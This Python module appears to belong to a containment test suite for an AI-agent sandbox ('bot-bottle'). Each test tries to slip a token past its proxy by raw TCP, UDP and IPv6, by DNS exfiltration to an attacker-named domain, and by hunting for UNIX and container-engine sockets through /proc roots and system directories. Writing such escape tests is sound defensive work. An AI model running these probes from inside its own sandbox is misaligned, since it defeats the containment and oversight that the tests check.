"""Attempts around the proxy: straight to what listens on the host."""

from __future__ import annotations

import glob
import os
import socket
import stat
import struct
from collections.abc import Callable

from .attempt import THROUGH, Report, Scene, attempt, first_through, name_of
from .talk import Stopped

TIMEOUT_S = 1.0
"""On one machine an answer is at once; a port that does not answer in this time does not."""


def _converse(sock: socket.socket, address: object, data: bytes) -> Report:
    with sock:
        sock.settimeout(TIMEOUT_S)
        sock.connect(address)  # type: ignore[arg-type]
        sock.sendall(data)
        answer = sock.recv(512)
    if not answer:
        raise Stopped("closed")
    return Report(THROUGH, "answered")


@attempt("tcp")
def tcp(scene: Scene) -> Report:
    address = ("127.0.0.1", scene["raw"]["tcp"])
    return _converse(socket.socket(socket.AF_INET, socket.SOCK_STREAM), address, scene.token.encode())


@attempt("udp")
def udp(scene: Scene) -> Report:
    address = ("127.0.0.1", scene["raw"]["udp"])
    return _converse(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), address, scene.token.encode())


@attempt("ipv6")
def ipv6(scene: Scene) -> Report:
    address = ("::1", scene["raw"]["tcp6"])
    return _converse(socket.socket(socket.AF_INET6, socket.SOCK_STREAM), address, scene.token.encode())


@attempt("dns")
def dns(scene: Scene) -> Report:
    """Data in the labels of a name, to whatever resolver there is and to the attacker's own."""
    name = f"{scene.token}.{scene['evil']}"
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    query = b"\x17\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x10\x00\x01"
    own = ("127.0.0.1", scene["raw"]["dns"])

    def by_udp(address: tuple[str, int]) -> Report:
        return _converse(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), address, query)

    def by_tcp(address: tuple[str, int]) -> Report:
        framed = struct.pack(">H", len(query)) + query
        return _converse(socket.socket(socket.AF_INET, socket.SOCK_STREAM), address, framed)

    def ask_resolvers() -> None:
        for call in (
            lambda: socket.getaddrinfo(name, 443),
            lambda: by_udp(("127.0.0.1", 53)),
            lambda: by_tcp(("127.0.0.1", 53)),
        ):
            try:
                call()
            except (OSError, Stopped):
                continue

    if scene.inside:  # these answer, and must not pass it on: the attacker's listener tells
        ask_resolvers()
    tries: list[Callable[[], Report]] = [lambda: by_udp(own), lambda: by_tcp(own)]
    return first_through(tries)


@attempt("abstract-socket")
def abstract_socket(scene: Scene) -> Report:
    name = "\0" + scene["raw"]["abstract"]
    return _converse(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), name, scene.token.encode())


@attempt("path-socket")
def path_socket(scene: Scene) -> Report:
    """A socket like a container engine's, at its path and at every other that leads there."""
    path = scene["raw"]["path"]

    def at(each: str) -> Callable[[], Report]:
        return lambda: _converse(
            socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), each, scene.token.encode()
        )

    roots = ["", *sorted(glob.glob("/proc/[0-9]*/root"))[:20]] if scene.inside else [""]
    return first_through([at(root + path) for root in roots])


@attempt("daemon-socket")
def daemon_socket(scene: Scene) -> Report:
    """The product's own control socket: the given path, then every socket that can be seen."""
    paths = [scene["daemon"]]
    for root in ("/run", "/tmp", "/var", "/home") if scene.inside else ():  # noqa: S108
        for directory, _, names in os.walk(root):
            paths += [
                os.path.join(directory, name) for name in names if _is_socket(os.path.join(directory, name))
            ]
    own = ["/run/bot-bottle/proxy.sock"] + (["/run/bot-bottle/gate.sock"] if scene["gate_url"] else [])
    refusal = "no socket but its proxy's" + (" and gate's" if scene["gate_url"] else "")
    for path in paths:
        for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM) if path not in own else ():
            with socket.socket(socket.AF_UNIX, kind) as sock:
                sock.settimeout(TIMEOUT_S)
                try:
                    sock.connect(path)
                except OSError as error:
                    refusal = name_of(error)
                    continue
                return Report(THROUGH, f"connected to {path}")
    raise Stopped(refusal)


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False
